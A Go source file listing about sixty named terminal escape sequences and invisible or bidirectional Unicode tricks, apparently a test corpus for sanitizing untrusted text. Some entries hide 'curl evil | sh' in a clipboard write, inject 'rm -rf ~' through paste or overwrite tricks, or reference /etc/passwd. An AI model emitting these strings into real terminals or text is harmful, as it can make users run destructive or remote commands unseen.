package main

// payload is an escape that was published as an attack on whoever looks at text from elsewhere, or that a terminal's
// manual documents as an action. Where no advisory is named, the source is ECMA-48, the xterm control sequences, or
// the Unicode reports on bidirectional text (UAX 9), security (UTR 36) and source code (UTS 55).
type payload struct{ name, text string }

var payloads = []payload{
	{"osc8-hyperlink", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
	{"osc8-hyperlink-bel", "\x1b]8;id=1;file:///etc/passwd\aclick\x1b]8;;\a"},
	{"osc52-clipboard-write", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a"},
	{"osc52-clipboard-query", "\x1b]52;p;?\x1b\\"},
	{"osc0-title", "\x1b]0;owned\a"},
	{"osc2-title", "\x1b]2;owned\x1b\\"},
	{"osc1-icon", "\x1b]1;owned\a"},
	{"title-report", "\x1b]2;whoami\a\x1b[21t"}, // CVE-2003-0063
	{"title-stack", "\x1b[22;0t\x1b[23;0t"},
	{"screen-title", "\x1bkowned\x1b\\"},
	{"tmux-passthrough", "\x1bPtmux;\x1b\x1b]52;c;YQ==\a\x1b\\"},
	{"decrqss", "\x1bP$q\"p\x1b\\"},
	{"decrqss-injection", "\x1bP$q\nwhoami\n\x1b\\"}, // CVE-2008-2383
	{"decudk-keys", "\x1bP0;0|0A/726d202d7266207e\x1b\\"},
	{"xtgettcap", "\x1bP+q544e\x1b\\"},
	{"device-attributes", "\x1b[c\x1b[>c\x1b[=c"},
	{"cursor-report", "\x1b[6n"},
	{"enquiry", "\x05"},
	{"bracketed-paste-end", "\x1b[201~rm -rf ~\n"},
	{"bracketed-paste-mode", "\x1b[?2004l\x1b[200~"},
	{"osc4-colour-query", "\x1b]4;1;?\a"},
	{"osc10-colour-query", "\x1b]10;?\a\x1b]11;?\a"},
	{"osc50-font", "\x1b]50;i$(touch owned)\a\x1b]50;?\a"}, // CVE-2022-45063
	{"osc7-directory", "\x1b]7;file://host/%0aid\a"},
	{"osc9-notification", "\x1b]9;owned\a"},
	{"osc133-prompt", "\x1b]133;A\a\x1b]133;C\a"},
	{"osc777-notify", "\x1b]777;notify;a;b\a"},
	{"osc1337-file", "\x1b]1337;File=name=YQ==;inline=0:YQ==\a"},
	{"osc1337-copy", "\x1b]1337;CopyToClipboard=\a"},
	{"kitty-graphics", "\x1b_Gf=24,t=f;L2V0Yy9wYXNzd2Q=\x1b\\"},
	{"application-command", "\x1b_owned\x1b\\\x1b^owned\x1b\\\x1bXowned\x1b\\"},
	{"sixel", "\x1bPq#0;2;0;0;0#0~~\x1b\\"},
	{"c1-csi", "\u009b31mred\u009b0m"},
	{"c1-osc-dcs", "\u009d0;owned\u009c\u0090$q\"p\u009c"},
	{"c1-nel", "a\u0085b\u0084c\u008dd"},
	{"media-copy", "\x1b[5i\x1b[4i"}, // prints what follows
	{"alternate-screen", "\x1b[?1049h\x1b[?1003h"},
	{"erase-scrollback", "\x1b[2J\x1b[3J\x1b[H"},
	{"rewrite-line", "\x1b[1A\x1b[2Ksafe"},
	{"conceal", "\x1b[8mhidden\x1b[28m"},
	{"repeat", "x\x1b[2147483647b"}, // unbounded in several terminals
	{"reset", "\x1bc\x1b#8\x1b(0"},
	{"shift-out", "\x0eabc\x0f"},
	{"backspace", "evil\b\b\b\bgood"},
	{"carriage-return", "rm -rf ~\recho hello"},
	{"delete-vertical", "a\x7fb\vc\fd\x1ae"},
	{"bell-flood", "\a\a\a\a"},
	{"bidi-override", "user\u202e gnp.exe\u202c"}, // CVE-2021-42574
	{"bidi-isolate", "\u2066// \u2069\u2067if admin\u2069"},
	{"bidi-marks", "\u200e\u200f\u061c\u202a\u202b\u202d"},
	{"zero-width", "pass\u200bword\u200c\u200d\u2060\ufeff"},
	{"tags", "\U000e0001\U000e006f\U000e0062\U000e0065\U000e0079\U000e007f"},
	{"variation-selectors", "a\ufe0f\ufe00\U000e0100\U000e01ef"}, // carry bytes unseen
	{"invisible-operators", "\u2061\u2062\u2063\u2064\u206a\u206f"},
	{"fillers", "\u3164\u115f\u1160\uffa0\u2800\u180e\u00ad\u034f"},
	{"annotations", "\ufff9base\ufffanote\ufffb\ufffc"},
	{"separators", "a\u2028b\u2029c\u00a0d\u3000e\u2007f"},
	{"private-use", "\ue000\uf8ff\U000f0000\U0010fffd"},
	{"unassigned", "\u0378\ufdd0\uffff\U0001ffff\U000e0fff"},
	{"musical-shorthand", "\U0001d173\U0001d17a\U0001bca0\U000110bd"},
}
